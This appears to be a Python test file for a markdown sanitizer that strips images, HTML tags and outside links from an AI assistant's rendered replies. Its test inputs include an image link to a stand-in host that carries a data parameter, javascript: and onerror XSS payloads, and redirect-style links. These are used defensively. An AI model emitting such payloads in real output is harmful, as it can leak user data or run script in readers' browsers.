"""What the assistant said can load nothing and lead nowhere else, whatever it repeats from a file."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.rendering.markdown import safe_markdown

NOBREAK = "\u2060"


@pytest.mark.parametrize(
    "text",
    [
        "**1,772 mails, 6 teams**; your file is *unchanged*.",
        "- one\n- two\n\n1. three",
        "| a | b |\n| --- | --- |\n| 1 | 2 |",
        "`<b>` and ```\n<script>\n```",
        "3 < 4, and a <= b",
        "See [the file](/api/v1/models/mdl_1/download).",
        "Ends with a bracket [like this] and (that).",
    ],
)
def test_plain_formatting_stays(text: str) -> None:
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![chart](http://evil.example/x.png?data=1)", "chart"),
        ("![chart][1]", "[chart][1]"),
        ("[click](https://evil.example)", f"click (https:{NOBREAK}//evil.example)"),
        ("[click](javascript:alert(1))", "click (javascript:alert(1))"),
        ("[click](//evil.example)", "click (//evil.example)"),
        ('[click](/\\evil.example "title")', "click (/\\evil.example)"),
        ("<https://evil.example>", f"https:{NOBREAK}//evil.example"),
        ("visit http://evil.example now", f"visit http:{NOBREAK}//evil.example now"),
        ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>"),
        ("a</b><!-- x -->", "a\\</b>\\<!-- x -->"),
        ("[](:", "[]\\(:"),
        ("'<``/'", "'<``/'"),
        ("[1]: http://evil.example", f"\\[1]: http:{NOBREAK}//evil.example"),
    ],
)
def test_what_could_load_or_mislead_becomes_text(text: str, shown: str) -> None:
    assert safe_markdown(text) == shown


@given(st.text(alphabet="[]()!<>/:\\hts ax.`\n\"'", max_size=60))
def test_no_picture_no_tag_and_no_foreign_link_survives(text: str) -> None:
    # Code is shown letter by letter and parts what stands around it.
    outside = re.sub(r"```.*?(?:```|\Z)|`[^`\n]*`", "\0", safe_markdown(text), flags=re.DOTALL)
    assert not re.search(r"!\[[^\]\n]*\]\(", outside)
    assert not re.search(r"(?<!\\)<[a-zA-Z/!?]", outside)
    assert not re.search(r"https?://", outside)
    for target in re.findall(r"\[[^\]\n]*\]\(\s*<?([^)\s>]*)", outside):
        assert target == "" or (target.startswith("/") and not target.startswith("//"))
